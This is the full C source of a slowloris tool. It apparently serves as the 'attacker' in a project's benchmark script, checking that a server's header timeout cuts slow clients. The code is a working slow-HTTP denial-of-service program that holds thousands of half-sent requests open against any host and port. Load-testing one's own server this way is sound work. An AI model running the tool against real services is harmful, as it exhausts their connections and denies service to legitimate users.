/*
 * slowloris: keep N TCP connections to HOST:PORT, each dripping an HTTP
 * request head one byte every INTERVAL ms and never finishing it, for SECONDS;
 * reconnect (after a short pause) whenever the server cuts a connection off.
 *
 * Used by scripts/hostile-figures.sh as the attacker: a server with a header
 * timeout must cut each connection after that timeout, and healthy clients
 * must not suffer for it. It replaces a Python asyncio dripper whose own CPU
 * use (5,000 one-byte writes/s plus reconnects) stole time from the measuring
 * load generator on the same core. This program is one thread, non-blocking
 * sockets, epoll and one periodic timerfd; no allocation on the hot path.
 *
 * Schedule. Every connection slot i (0..N-1) has a fixed phase: it gets a
 * "turn" at start + (k*N + i) * INTERVAL/N for k = 0, 1, 2, ... so the N
 * slots' turns are spread evenly over the interval and the writes are smooth
 * (500 connections at 100 ms: one write every 200 us), not a burst of N writes
 * every INTERVAL. A periodic timerfd wakes the loop every max(1 ms, INTERVAL/N)
 * and it takes every turn that is due, so at 500 x 100 ms it writes 5 bytes
 * (to 5 different connections) each millisecond: smooth at 1 ms resolution,
 * with 1,000 rather than 5,000 wake-ups a second (on this VM each wake-up
 * costs tens of microseconds of system time, a cost that would fall on the
 * measuring client's core). On its turn a slot
 *   - with an open connection writes the next byte of the head;
 *   - with no connection, once its pause after the last close has passed,
 *     starts a non-blocking connect() (the first byte goes out at once if the
 *     connect completes immediately, as it usually does on loopback, else on
 *     the slot's next turn);
 *   - still connecting after CONNECT_TIMEOUT gives up and retries later.
 * If the process falls behind (descheduled), whole missed rounds are skipped,
 * so no connection gets more than about one byte per interval; the largest
 * lateness of a turn is reported as max_lag_ms.
 *
 * The head is `GET /poll?after=0 HTTP/1.1\r\nhost: t\r\nx-padding: ` plus
 * 4000 'a' bytes with no terminating CRLF; a connection that somehow sends all
 * of it (only without a header timeout: ~400 s at 100 ms) stays open, silent.
 *
 * Server closes are seen as EOF or an error on read (EPOLLIN/EPOLLRDHUP), or
 * EPIPE/ECONNRESET on write. Anything the server sends first (e.g. a 408) is
 * read and counted. For each server-closed connection the program records its
 * lifetime, from the connect() call to the moment the close was seen.
 *
 * At the end it closes everything and prints one line of key=value stats:
 *   opened          connections established
 *   dripped_bytes   head bytes written
 *   server_closes   connections the server closed (or reset)
 *   connect_errors  connects that failed or timed out
 *   open_at_end     connections still open when the time was up
 *   lifetime_ms_min/p50/max  lifetime of server-closed connections (nearest
 *                   rank; 0 if there were none)
 *   max_lag_ms      largest lateness of a turn behind its schedule
 *   cpu_user_ms/cpu_sys_ms/wall_ms  this process's own CPU time (getrusage)
 *                   and wall time, so callers can state the attacker's cost
 *
 *   slowloris HOST PORT [--conns N (500)] [--interval-ms MS (100)]
 *                       [--seconds S (9)]
 *
 * Exit status: 0 done, 1 runtime failure (or the hard deadline, SECONDS + 10 s,
 * fired), 2 bad usage. Build: gcc -std=c11 -O2 -Wall -Wextra -Werror.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <limits.h>
#include <netdb.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/timerfd.h>
#include <time.h>
#include <unistd.h>

#define PADDING 4000
#define RECONNECT_PAUSE_NS (10 * 1000000LL)   /* after a server close */
#define ERROR_PAUSE_NS (100 * 1000000LL)      /* after a failed connect */
#define CONNECT_TIMEOUT_NS (1000 * 1000000LL) /* give up on a pending connect */
#define MIN_GRAIN_NS (1 * 1000000LL)          /* shortest timer period */
#define DEADLINE_SLACK_S 10                   /* hard deadline: SECONDS + this */
#define MAX_EVENTS 256
#define TIMER_TAG UINT64_MAX /* epoll data of the timerfd; slots use their index */

enum state { IDLE, CONNECTING, OPEN, DONE };

struct slot {
    int fd;            /* -1 when IDLE */
    enum state state;
    size_t off;        /* next head byte to write */
    int64_t t_connect; /* when connect() was called (ns) */
    int64_t retry_at;  /* IDLE: earliest time to connect again (ns) */
};

/* Configuration and counters (one thread: plain globals). */
static const char *host, *port;
static long n_conns = 500, interval_ms = 100, seconds = 9;
static struct addrinfo *addr;
static char head[128 + PADDING];
static size_t head_len;
static struct slot *slots;
static int ep;
static uint64_t opened, dripped, server_closes, connect_errors, response_bytes;
static int64_t max_lag;
static int64_t *lifetimes; /* ns, one per server close */
static size_t n_lifetimes, cap_lifetimes;

static void usage(void) {
    fprintf(stderr,
            "usage: slowloris HOST PORT [--conns N (500)] [--interval-ms MS (100)] "
            "[--seconds S (9)]\n"
            "  N 1..100000, MS 1..60000, S 1..3600\n");
    exit(2);
}

static void die(const char *what) {
    fprintf(stderr, "slowloris: %s: %s\n", what, strerror(errno));
    exit(1);
}

static int64_t now_ns(void) {
    struct timespec ts;
    if (clock_gettime(CLOCK_MONOTONIC, &ts) != 0) die("clock_gettime");
    return (int64_t)ts.tv_sec * 1000000000LL + ts.tv_nsec;
}

/* Whole decimal number in [lo, hi], or usage error. */
static long parse_num(const char *s, long lo, long hi) {
    char *end;
    errno = 0;
    long v = strtol(s, &end, 10);
    if (errno != 0 || end == s || *end != '\0' || v < lo || v > hi) usage();
    return v;
}

/* Async-signal-safe: the hard deadline. */
static void on_alarm(int sig) {
    (void)sig;
    static const char msg[] = "slowloris: hard deadline passed, aborting\n";
    ssize_t r = write(2, msg, sizeof msg - 1);
    (void)r;
    _exit(1);
}

static void record_lifetime(int64_t ns) {
    if (n_lifetimes == cap_lifetimes) {
        size_t cap = cap_lifetimes ? cap_lifetimes * 2 : 4096;
        int64_t *p = realloc(lifetimes, cap * sizeof *p);
        if (!p) die("realloc");
        lifetimes = p;
        cap_lifetimes = cap;
    }
    lifetimes[n_lifetimes++] = ns;
}

/* Close a slot's socket (epoll forgets it with the last reference) and park
 * the slot until `retry_at`. */
static void drop(struct slot *s, int64_t retry_at) {
    if (close(s->fd) != 0) die("close");
    s->fd = -1;
    s->state = IDLE;
    s->off = 0;
    s->retry_at = retry_at;
}

static void server_closed(struct slot *s, int64_t now) {
    server_closes++;
    record_lifetime(now - s->t_connect);
    drop(s, now + RECONNECT_PAUSE_NS);
}

static void connect_failed(struct slot *s, int64_t now) {
    connect_errors++;
    drop(s, now + ERROR_PAUSE_NS);
}

/* Write the slot's next head byte. */
static void drip(struct slot *s, int64_t now) {
    ssize_t w = send(s->fd, head + s->off, 1, MSG_NOSIGNAL);
    if (w == 1) {
        dripped++;
        if (++s->off == head_len) s->state = DONE; /* hold, silent */
        return;
    }
    if (w < 0 && (errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR))
        return; /* buffer full (cannot really happen at 1 byte): next turn */
    if (w < 0 && (errno == EPIPE || errno == ECONNRESET)) {
        server_closed(s, now);
        return;
    }
    die("send");
}

/* The connection is up: watch it for the server's close only. */
static void established(struct slot *s, uint32_t idx) {
    struct epoll_event ev = {.events = EPOLLIN | EPOLLRDHUP, .data.u64 = idx};
    if (epoll_ctl(ep, EPOLL_CTL_MOD, s->fd, &ev) != 0) die("epoll_ctl mod");
    s->state = OPEN;
    opened++;
}

static void start_connect(struct slot *s, uint32_t idx, int64_t now) {
    int fd = socket(addr->ai_family, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (fd < 0) {
        if (errno == EMFILE || errno == ENFILE || errno == ENOBUFS || errno == ENOMEM) {
            connect_errors++;
            s->retry_at = now + ERROR_PAUSE_NS;
            return;
        }
        die("socket");
    }
    s->fd = fd;
    s->off = 0;
    s->t_connect = now;
    /* Every byte its own segment, whatever the ACK timing (no Nagle delay). */
    int one = 1;
    if (setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one) != 0) die("setsockopt");
    /* EPOLLOUT reports completion of a pending connect; dropped once open. */
    struct epoll_event ev = {.events = EPOLLOUT | EPOLLIN | EPOLLRDHUP, .data.u64 = idx};
    if (epoll_ctl(ep, EPOLL_CTL_ADD, fd, &ev) != 0) die("epoll_ctl add");
    if (connect(fd, addr->ai_addr, addr->ai_addrlen) == 0) {
        established(s, idx);
        drip(s, now);
    } else if (errno == EINPROGRESS) {
        s->state = CONNECTING;
    } else {
        s->state = CONNECTING; /* so drop() has a socket to close */
        connect_failed(s, now);
    }
}

/* Slot idx's turn in the schedule. */
static void turn(uint32_t idx, int64_t now) {
    struct slot *s = &slots[idx];
    switch (s->state) {
    case OPEN: drip(s, now); break;
    case IDLE:
        if (now >= s->retry_at) start_connect(s, idx, now);
        break;
    case CONNECTING:
        if (now - s->t_connect > CONNECT_TIMEOUT_NS) connect_failed(s, now);
        break;
    case DONE: break;
    }
}

/* Readiness of slot idx's socket. */
static void on_event(uint32_t idx, uint32_t events, int64_t now) {
    struct slot *s = &slots[idx];
    if (s->state == CONNECTING) {
        int err = 0;
        socklen_t len = sizeof err;
        if (getsockopt(s->fd, SOL_SOCKET, SO_ERROR, &err, &len) != 0) die("getsockopt");
        if (err != 0) {
            connect_failed(s, now);
            return;
        }
        if (!(events & EPOLLOUT)) return; /* not yet writable: keep waiting */
        established(s, idx);
        /* first byte on the slot's next turn; a close seen below still counts */
    }
    if (s->state != OPEN && s->state != DONE) return;
    if (!(events & (EPOLLIN | EPOLLRDHUP | EPOLLHUP | EPOLLERR))) return;
    char buf[4096];
    for (;;) {
        ssize_t r = read(s->fd, buf, sizeof buf);
        if (r > 0) {
            response_bytes += (uint64_t)r; /* e.g. a 408 before the close */
            continue;
        }
        if (r == 0) break; /* EOF: the server closed */
        if (errno == EINTR) continue;
        if (errno == EAGAIN || errno == EWOULDBLOCK) {
            if (events & (EPOLLRDHUP | EPOLLHUP | EPOLLERR)) break;
            return; /* just data; still open */
        }
        if (errno == ECONNRESET || errno == EPIPE) break; /* reset by the server */
        die("read");
    }
    server_closed(s, now);
}

static int cmp_i64(const void *a, const void *b) {
    int64_t x = *(const int64_t *)a, y = *(const int64_t *)b;
    return (x > y) - (x < y);
}

static double ms(int64_t ns) { return (double)ns / 1e6; }

int main(int argc, char **argv) {
    if (argc < 3) usage();
    host = argv[1];
    port = argv[2];
    parse_num(port, 1, 65535);
    for (int i = 3; i < argc; i += 2) {
        if (i + 1 >= argc) usage();
        if (strcmp(argv[i], "--conns") == 0) n_conns = parse_num(argv[i + 1], 1, 100000);
        else if (strcmp(argv[i], "--interval-ms") == 0)
            interval_ms = parse_num(argv[i + 1], 1, 60000);
        else if (strcmp(argv[i], "--seconds") == 0) seconds = parse_num(argv[i + 1], 1, 3600);
        else usage();
    }

    struct addrinfo hints = {.ai_family = AF_UNSPEC, .ai_socktype = SOCK_STREAM};
    int gai = getaddrinfo(host, port, &hints, &addr);
    if (gai != 0) {
        fprintf(stderr, "slowloris: cannot resolve %s:%s: %s\n", host, port, gai_strerror(gai));
        exit(2);
    }

    /* One descriptor per connection plus epoll, timerfd, stdio and slack. */
    struct rlimit rl;
    if (getrlimit(RLIMIT_NOFILE, &rl) != 0) die("getrlimit");
    rlim_t want = (rlim_t)n_conns + 32;
    if (rl.rlim_max != RLIM_INFINITY && rl.rlim_max < want) {
        fprintf(stderr, "slowloris: %ld connections need %lu descriptors, hard limit is %lu\n",
                n_conns, (unsigned long)want, (unsigned long)rl.rlim_max);
        exit(1);
    }
    if (rl.rlim_cur != RLIM_INFINITY && rl.rlim_cur < want) {
        rl.rlim_cur = want;
        if (setrlimit(RLIMIT_NOFILE, &rl) != 0) die("setrlimit");
    }

    struct sigaction sa = {.sa_handler = SIG_IGN};
    if (sigaction(SIGPIPE, &sa, NULL) != 0) die("sigaction SIGPIPE");
    sa.sa_handler = on_alarm;
    if (sigaction(SIGALRM, &sa, NULL) != 0) die("sigaction SIGALRM");
    alarm((unsigned)(seconds + DEADLINE_SLACK_S));

    int prefix =
        snprintf(head, sizeof head, "GET /poll?after=0 HTTP/1.1\r\nhost: t\r\nx-padding: ");
    if (prefix < 0 || (size_t)prefix + PADDING > sizeof head) {
        fprintf(stderr, "slowloris: head does not fit\n");
        exit(1);
    }
    memset(head + prefix, 'a', PADDING);
    head_len = (size_t)prefix + PADDING;

    slots = calloc((size_t)n_conns, sizeof *slots);
    if (!slots) die("calloc");
    for (long i = 0; i < n_conns; i++) slots[i] = (struct slot){.fd = -1, .state = IDLE};

    ep = epoll_create1(EPOLL_CLOEXEC);
    if (ep < 0) die("epoll_create1");
    int tfd = timerfd_create(CLOCK_MONOTONIC, TFD_NONBLOCK | TFD_CLOEXEC);
    if (tfd < 0) die("timerfd_create");
    struct epoll_event tev = {.events = EPOLLIN, .data.u64 = TIMER_TAG};
    if (epoll_ctl(ep, EPOLL_CTL_ADD, tfd, &tev) != 0) die("epoll_ctl timerfd");

    const int64_t interval = (int64_t)interval_ms * 1000000LL;
    const int64_t round_ticks = n_conns;
    const int64_t start = now_ns();
    const int64_t end = start + (int64_t)seconds * 1000000000LL;
    int64_t k = 0; /* next turn: slot k % N, due at start + k * interval / N */
#define DUE(k) (start + (k) / round_ticks * interval + (k) % round_ticks * interval / round_ticks)
    struct epoll_event evs[MAX_EVENTS];

    /* Periodic timer: wake every `grain`, from start, until the end. */
    const int64_t tick = interval / round_ticks;
    const int64_t grain = tick > MIN_GRAIN_NS ? tick : MIN_GRAIN_NS;
    const int64_t first = start + grain;
    struct itimerspec its = {
        .it_value = {.tv_sec = first / 1000000000LL, .tv_nsec = first % 1000000000LL},
        .it_interval = {.tv_sec = grain / 1000000000LL, .tv_nsec = grain % 1000000000LL}};
    if (timerfd_settime(tfd, TFD_TIMER_ABSTIME, &its, NULL) != 0) die("timerfd_settime");

    for (;;) {
        int64_t now = now_ns();
        if (now >= end) break;
        /* Fell more than a whole round behind: skip the missed rounds. */
        if (now - DUE(k) > interval) k += (now - DUE(k)) / interval * round_ticks;
        while (DUE(k) <= now) {
            if (now - DUE(k) > max_lag) max_lag = now - DUE(k);
            turn((uint32_t)(k % round_ticks), now);
            k++;
        }
        /* Bounded wait: the timer, a socket, or the end (whichever is first). */
        int64_t left_ms = (end - now) / 1000000LL + 1;
        int n = epoll_wait(ep, evs, MAX_EVENTS, left_ms < 1000 ? (int)left_ms : 1000);
        if (n < 0) {
            if (errno == EINTR) continue;
            die("epoll_wait");
        }
        now = now_ns();
        for (int i = 0; i < n; i++) {
            if (evs[i].data.u64 == TIMER_TAG) {
                uint64_t expirations;
                if (read(tfd, &expirations, sizeof expirations) < 0 && errno != EAGAIN)
                    die("read timerfd");
                continue;
            }
            on_event((uint32_t)evs[i].data.u64, evs[i].events, now);
        }
    }
    const int64_t stop = now_ns();

    uint64_t open_at_end = 0;
    for (long i = 0; i < n_conns; i++) {
        if (slots[i].fd < 0) continue;
        if (slots[i].state == OPEN || slots[i].state == DONE) open_at_end++;
        if (close(slots[i].fd) != 0) die("close");
    }
    close(tfd);
    close(ep);

    struct rusage ru;
    if (getrusage(RUSAGE_SELF, &ru) != 0) die("getrusage");
    int64_t user = (int64_t)ru.ru_utime.tv_sec * 1000000000LL + ru.ru_utime.tv_usec * 1000LL;
    int64_t sys = (int64_t)ru.ru_stime.tv_sec * 1000000000LL + ru.ru_stime.tv_usec * 1000LL;

    qsort(lifetimes, n_lifetimes, sizeof *lifetimes, cmp_i64);
    int64_t lo = 0, med = 0, hi = 0;
    if (n_lifetimes) {
        lo = lifetimes[0];
        med = lifetimes[(n_lifetimes + 1) / 2 - 1]; /* nearest rank */
        hi = lifetimes[n_lifetimes - 1];
    }
    printf("slowloris: conns=%ld interval_ms=%ld seconds=%ld opened=%llu dripped_bytes=%llu "
           "server_closes=%llu connect_errors=%llu open_at_end=%llu response_bytes=%llu "
           "lifetime_ms_min=%.1f lifetime_ms_p50=%.1f lifetime_ms_max=%.1f max_lag_ms=%.1f "
           "cpu_user_ms=%.0f cpu_sys_ms=%.0f wall_ms=%.0f\n",
           n_conns, interval_ms, seconds, (unsigned long long)opened,
           (unsigned long long)dripped, (unsigned long long)server_closes,
           (unsigned long long)connect_errors, (unsigned long long)open_at_end,
           (unsigned long long)response_bytes, ms(lo), ms(med), ms(hi), ms(max_lag), ms(user),
           ms(sys), ms(stop - start));
    if (fflush(stdout) != 0) die("fflush");
    freeaddrinfo(addr);
    free(lifetimes);
    free(slots);
    return 0;
}
